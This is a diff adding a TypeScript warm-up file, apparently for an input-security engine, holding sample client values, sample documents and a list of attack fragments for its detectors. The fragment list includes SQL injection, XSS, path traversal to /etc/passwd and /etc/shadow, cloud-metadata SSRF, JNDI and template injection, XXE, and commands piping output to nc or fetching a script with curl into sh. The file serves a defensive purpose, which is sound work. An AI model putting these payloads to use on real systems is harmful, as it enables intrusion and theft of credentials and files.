@@ -1,0 +1,114 @@
+// What an engine judges where an isolate starts, before a client's first text (rehearse.ts): values as clients send them,
+// pieces of attacks of every class, and documents as people write and programs send them. None is anybody's.
+
+/** Values as clients send them, and marks of each kind, so that every detector has something to look at. */
+export const TEXTS: readonly string[] = [
+  'It\'s (a) [b] {c}; d: e, f. Say "g", or `h`? i * j = k # l @ m! <n> & o | p \\ q',
+  "a name's (x); $y",
+  'https://example.com/a/b.html?c=d&e=f#g',
+  '2026-01-31T12:00:00Z',
+  '<p class="a">text &amp; more</p>',
+  '../a/b',
+  'select a from b where c = 1',
+  'a@example.com',
+  '${a} {{b}}',
+  'a\nb: c\n',
+  'YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo=',
+  '%41%42',
+  '{"a":"b\'c"}',
+  'f(x, "y")',
+]
+
+/** Pieces of attacks; two of them together, again and again, are a text. */
+export const PIECES: readonly string[] = [
+  "x' or '1'='1' -- ",
+  '1) union select a, b from c where (1=1',
+  "\"; drop table a; exec xp_b 'c' /* d */ ",
+  "1 and sleep(5) and case when 1=1 then a end || 'b' ",
+  '; cat /etc/passwd | nc 192.0.2.1 80 && id ',
+  '$(curl http://a.example/b|sh) `id` ${IFS} ',
+  '| powershell -enc QQBB & dir c:\\windows\\win.ini ',
+  '<script>alert(1)</script><img src=x onerror=b()> ',
+  '"><svg/onload=a`1` style="b:url(javascript:c)"> ',
+  '../../etc/shadow ..\\..\\boot.ini %2e%2e%2f ',
+  'http://169.254.169.254/latest/ gopher://[::1]:80/ ',
+  '{{7*7}} ${jndi:ldap://a/b} <%= a %> #{b} {% c %} ',
+  "__import__('os').system('id') eval($_GET[a]) ",
+  '*)(uid=*))(|(a=* " or count(//b)=1 or "a"="b ',
+  '{"$gt":""} \', $where: \'1==1 db.a.find() ',
+  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]>&b; ',
+  'a\r\nSet-Cookie: b=c\r\n\r\nGET /d HTTP/1.1 ',
+  'O:8:"stdClass":1:{s:1:"a";} !!python/object:b rO0AB ',
+  '\\u0027 \\x41 &#x3c;a&#62; %27%20or%201 \u2019 \uff1c ',
+  'constructor.prototype.a __proto__[b]=c class.module ',
+]
+
+/** Documents, a piece of each: with several of them in a row, what reads lines, tags, tables and code is compiled. */
+export const DOCUMENTS: readonly string[] = [
+  `## The \`read(path, options)\` function
+
+It's read at once: see [the guide](https://a.example/docs/b?c=d#e), or [#12](../c.md). Don't
+write \`a.b[c]\` (or *that*), "as it stands"; use **this** instead.
+
+[![npm](https://img.example/npm/v/a.svg?style=flat)](https://www.example.com/package/a)
+
+\`\`\`js
+const { a, b } = require('c')
+// a comment; it isn't run
+import d from "./e/f.js"
+const g = await a.read(\`/h/\${b.id}\`, { i: true, j: ['k', 1] })
+if (g && g.l !== null || b[0] >= 10) { console.log('m', g.n ? "o" : 'p'); throw new Error('q: ' + g) }
+obj.on('end', (err) => { if (err) return cb(err) })
+\`\`\`
+
+| Option | Type | Default | What it is for |
+|:---|:--:|---:|---|
+| \`cache\` | \`boolean \\| null\` | \`true\` | Whether <b>it</b> is kept (see below) |
+
+\`\`\`sh
+$ npm install --save-dev a && npx a --b c=d ./e/*.json | grep -v f > g.txt
+export A_B=1; curl -X POST http://localhost:3000/a -d '{"b":1}'
+\`\`\`
+
+* \`select\`: takes items from where they are & orders them by name, 10% faster than v1.2.3-rc.1!
+- [x] <a href="#b">done</a>, by @someone <me@example.com> ~ 2 weeks ago
+
+`,
+  `<!DOCTYPE html>
+<html xmlns="http://www.w3.org/1999/xhtml"><head>
+<meta http-equiv="Content-Type" content="text/html; charset=utf-8" /><title>Hello, {{ name }}</title>
+<style type="text/css">
+/* a */ @media only screen and (max-width: 480px) { .a, td[class="b"] { width: 100% !important; font: 14px/1.5 'Arial', sans-serif; } }
+body { margin: 0; background: #f4f4f4 url("https://a.example/b.png") no-repeat; }
+</style></head>
+<!--[if mso]><table><tr><td width="600"><![endif]-->
+<table border="0" cellpadding="0" cellspacing="0" width="100%" style="border-collapse:collapse;mso-table-lspace:0pt;color:#333333;">
+<tr>
+    <td align="center" valign="top" class="a b" style="padding: 10px 20px; font-family: Helvetica, Arial; text-decoration:none">
+      <p>Hi {{name}},&nbsp;it's &copy; 2026 &amp; we\u2019ve sent your order (no. 12):</p>
+      <a href="https://example.com/a/b?c={{ id }}&amp;d=e" target="_blank" style="color:#0a0;"><img src="https://cdn.example.com/i/a_b.png" alt="A &quot;b&quot;" width="20" height="20" /></a>&zwnj;
+    </td>
+</tr>
+</table>
+<br />*|UNSUB|* {% if a %}<strong>b</strong>{% endif %}
+`,
+  `name: build # on each push
+on: { push: { branches: [main, "v*"] } }
+env:
+  URL: "http://\${HOST}:8080/a?b=\${{ secrets.C }}"
+steps:
+  - run: |
+      set -e; cd "$DIR" && make all 2>&1 | tee out.log || exit 1
+      for f in $(ls *.sql); do echo "$f"; done
+2026-01-31T12:00:00.123Z WARN [main-1] c.e.A - GET /b/c?d=%20e HTTP/1.1" 200 12 "-" took=3ms; user='x' (id=7)
+"id","name","note"
+1,"O'Neill, J.","said ""yes""; 50% off, 3 < 4 & 5 > 2"
+SELECT a.id, COUNT(*) AS n FROM orders a LEFT JOIN b ON b.id = a.b_id WHERE a.at >= '2026-01-01' GROUP BY a.id;
+def f(x: int = 0) -> str:
+    """Says 'x'."""
+    return f"{x!r}: %s" % os.path.join("a", __name__)
+public static <T> void main(String[] args) throws Exception { if (!a.isEmpty()) { System.out.println("b" + c[0]); } }
+{"a": {"$ref": "#/definitions/b"}, "c": [1, null, true, "d\\\\n"], "type": ["string", "null"]}
+
+`,
+]
